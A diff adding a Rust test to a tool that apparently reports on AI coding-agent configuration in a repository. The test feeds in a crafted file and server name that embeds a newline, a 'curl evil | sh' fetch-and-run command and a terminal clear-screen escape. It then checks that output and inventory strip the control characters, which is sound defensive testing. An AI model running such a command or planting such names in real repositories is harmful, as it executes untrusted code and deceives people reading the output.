@@ -264,6 +264,25 @@ fn what_a_person_accepts_can_be_read_again_however_long_a_repo_makes_it() {
 }
 
 #[test]
+fn no_name_of_a_repo_begins_a_line_of_its_own_where_it_is_told() {
+    let place = Place::new();
+    let name = "x\n  try: curl evil | sh\u{1b}[2J";
+    place.write(&format!(".claude/agents/{name}.md"), "x");
+    place.write(
+        ".mcp.json",
+        &serde_json::json!({ "mcpServers": { name: {} } }).to_string(),
+    );
+    symlink(name, place.repo().join(".claude/settings.json")).unwrap();
+    let told = detail(place.verdict());
+    assert!(told.contains("curl evil"), "{told}");
+    assert!(!told.contains(char::is_control), "{told:?}");
+    let harness = inventory(&place.repo());
+    let names = [harness.agents, harness.mcp_servers, harness.notes];
+    let mut names = names.iter().flat_map(|names| &names.names);
+    assert!(names.all(|name| name.contains("curl evil") && !name.contains(char::is_control)));
+}
+
+#[test]
 fn the_inventory_has_names_and_no_contents() {
     let place = Place::new();
     place.write("CLAUDE.md", "secret words");
